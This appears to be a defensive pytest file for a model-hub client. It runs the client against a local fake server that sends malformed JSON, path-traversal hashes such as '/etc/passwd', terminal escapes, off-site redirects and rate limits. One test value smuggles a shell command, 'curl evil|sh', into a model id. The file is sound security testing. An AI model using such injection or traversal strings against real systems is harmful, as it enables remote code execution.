"""The hub's client against hubs that lie, break off, send elsewhere, or are not there."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from offgridd.core.hub import HubError
from offgridd.core.search import Query
from offgridd.effects.hub import HubClient, session
from offgridd.effects.hub.search import first_page, read_page
from offgridd.effects.hub.session import seconds_to_wait

COMMIT = "c" * 40
SHA = "ab" * 32
Answer = Callable[[str], tuple[int, dict[str, str], bytes]]


@pytest.fixture
def hostile() -> Iterator[Callable[[Answer], HubClient]]:
    """A hub whose answers the test gives, by path."""
    servers: list[ThreadingHTTPServer] = []

    def make(answer: Answer) -> HubClient:
        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                status, headers, body = answer(self.path)
                self.send_response(status)
                for name, value in {"Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            def do_HEAD(self) -> None:
                self.do_GET()

            def log_message(self, format: str, *args: object) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        servers.append(server)
        threading.Thread(target=server.serve_forever, args=[0.05], daemon=True).start()
        return HubClient(f"http://127.0.0.1:{server.server_port}", token="hf_secret")

    yield make
    for server in servers:
        server.shutdown()
        server.server_close()


def tree_of(*entries: Any, link: str = "") -> Answer:
    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        if "/revision/" in path:
            return 200, {}, json.dumps({"id": "a/b", "sha": COMMIT}).encode()
        return 200, {"Link": link} if link else {}, json.dumps(entries).encode()

    return answer


def entry(path: str = "m.gguf", size: Any = 5, oid: Any = SHA) -> dict[str, Any]:
    return {"type": "file", "path": path, "size": size, "lfs": {"oid": oid}}


@pytest.mark.parametrize("oid", ["../x", "/etc/passwd", "ab" * 31, "zz" * 32, "ab\0" * 20, 5, None, [SHA]])
def test_what_is_no_sha256_is_none(hostile: Any, oid: Any) -> None:
    (file,) = hostile(tree_of(entry(oid=oid))).tree("a/b").files
    assert file.sha256 is None


def test_a_sha256_in_capitals_is_one(hostile: Any) -> None:
    (file,) = hostile(tree_of(entry(oid=SHA.upper()))).tree("a/b").files
    assert file.sha256 == SHA


@pytest.mark.parametrize(
    "bad",
    [entry(size=-1), entry(size=1 << 53), entry(size=10**400), entry(size=True), entry(size="5"), entry(path=""),
     entry(path="x\n"), entry(path="\x1b[2J"), entry(path="x" * 2000), {"type": "file"}, 5, None],
)  # fmt: skip
def test_entries_that_are_none_are_a_bad_answer(hostile: Any, bad: Any) -> None:
    with pytest.raises(HubError) as error:
        hostile(tree_of(bad)).tree("a/b")
    assert error.value.failure.reason == "BadAnswer"


@pytest.mark.parametrize(
    "body", [b"", b"[", b"\xff", b"[" * 100_000, b"{}", b"5", b"null", b'"x"', b"1e999", b"9" * 10_000]
)
def test_a_body_that_is_none_is_a_bad_answer(hostile: Any, body: bytes) -> None:
    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        return 200, {}, json.dumps({"sha": COMMIT}).encode() if "/revision/" in path else body

    with pytest.raises(HubError) as error:
        hostile(answer).tree("a/b")
    assert error.value.failure.reason == "BadAnswer"


@pytest.mark.parametrize(
    "to",
    ["http://127.0.0.1:99999/x", "http://[::1", "http://127.0.0.1:abc/", "//evil:1/x", "http://evil/", "file:///x"],
)
def test_pages_and_redirects_that_lead_elsewhere_are_not_followed(hostile: Any, to: str) -> None:
    for answer in (tree_of(entry(), link=f'<{to}>; rel="next"'), lambda path: (302, {"Location": to}, b"")):
        with pytest.raises(HubError) as error:
            hostile(answer).tree("a/b")
        assert error.value.failure.reason == "BadAnswer"
        assert "hf_secret" not in str(error.value)


def test_a_ring_of_pages_and_of_redirects_ends(hostile: Any) -> None:
    with pytest.raises(HubError):
        hostile(tree_of(entry(), link='</api/models/a/b/tree/x>; rel="next"')).tree("a/b")
    with pytest.raises(HubError):
        hostile(lambda path: (307, {"Location": path}, b"")).tree("a/b")


@pytest.mark.parametrize("size", ["", "-1", "x", "9" * 5000, str(1 << 53)])
def test_a_file_without_a_size_is_a_bad_answer(hostile: Any, size: str) -> None:
    headers = {"Location": "http://cdn/x", "X-Linked-Size": size, "X-Linked-Etag": f'"{SHA}"'}
    with pytest.raises(HubError) as error:
        hostile(lambda path: (302, headers, b"")).resolve("a/b", COMMIT, "m.gguf")
    assert error.value.failure.reason == "BadAnswer"


@pytest.mark.parametrize(
    ("headers", "seconds"),
    [({"retry-after": "7"}, 7.0), ({"retry-after": "x"}, None), ({}, None), ({"ratelimit": '"api";r=0;t=55'}, 55.0),
     ({"ratelimit": '"api";r=3;t=55'}, None), ({"retry-after": "Mon, 01 Jan 99999 00:00:00 GMT"}, None),
     ({"retry-after": "Wed, 21 Oct 2015 07:28:00 GMT"}, 0.0), ({"ratelimit": ";;=;r=0;t=" + "9" * 400}, None)],
)  # fmt: skip
def test_how_long_to_wait(headers: dict[str, str], seconds: float | None) -> None:
    found = seconds_to_wait(headers)
    assert found == seconds or (seconds is None and found is not None and found > 1e8)


def test_a_rate_limit_is_kept_without_asking_again(hostile: Any) -> None:
    asked: list[str] = []

    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        asked.append(path)
        return 429, {"RateLimit": '"api";r=0;t=300'}, b""

    client = hostile(answer)
    for _ in range(3):
        with pytest.raises(HubError) as error:
            client.tree("a/b")
        assert error.value.failure.reason == "RateLimited"
    assert len(asked) == 1


def test_a_hub_that_is_down_is_remembered_and_one_that_stumbles_is_not(hostile: Any) -> None:
    gone = HubClient("http://127.0.0.1:9")
    began = time.monotonic()
    for _ in range(50):
        with pytest.raises(HubError):
            gone.tree("a/b")
    assert time.monotonic() - began < 5
    asked: list[str] = []

    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        asked.append(path)
        return 500, {}, b""

    stumbling = hostile(answer)
    for _ in range(2):
        with pytest.raises(HubError):
            stumbling.tree("a/b")
    assert len(asked) == 2


def test_the_session_is_made_once_whoever_comes_first() -> None:
    session._made.clear()  # the library closes the one before
    found: list[Any] = []
    barrier = threading.Barrier(8)

    def ask() -> None:
        barrier.wait()
        found.append(session._session())

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len({id(one) for one in found}) == 1
    assert not found[0].is_closed


@pytest.mark.parametrize(
    "one",
    [{"id": "a/b;curl evil|sh"}, {"id": "a/b/c"}, {"id": 5}, {}, 5, None, {"id": "a/../b"}, {"id": "a/b\n"}],
)
def test_models_that_can_not_be_named_are_no_hits(hostile: Any, one: Any) -> None:
    good = {"id": "a/b", "downloads": 10**400, "likes": True, "tags": 5, "siblings": [5, {"rfilename": "\x1b"}],
            "gated": 7, "createdAt": [], "trendingScore": 1e300}  # fmt: skip
    client = hostile(lambda path: (200, {}, json.dumps([one, good]).encode()))
    page = read_page(client, first_page(Query("x"), client.endpoint), time.monotonic() + 5)
    (hit,) = page.hits
    assert (hit.id, hit.downloads, hit.likes, hit.files, hit.created_at) == ("a/b", 0, 0, (), "")
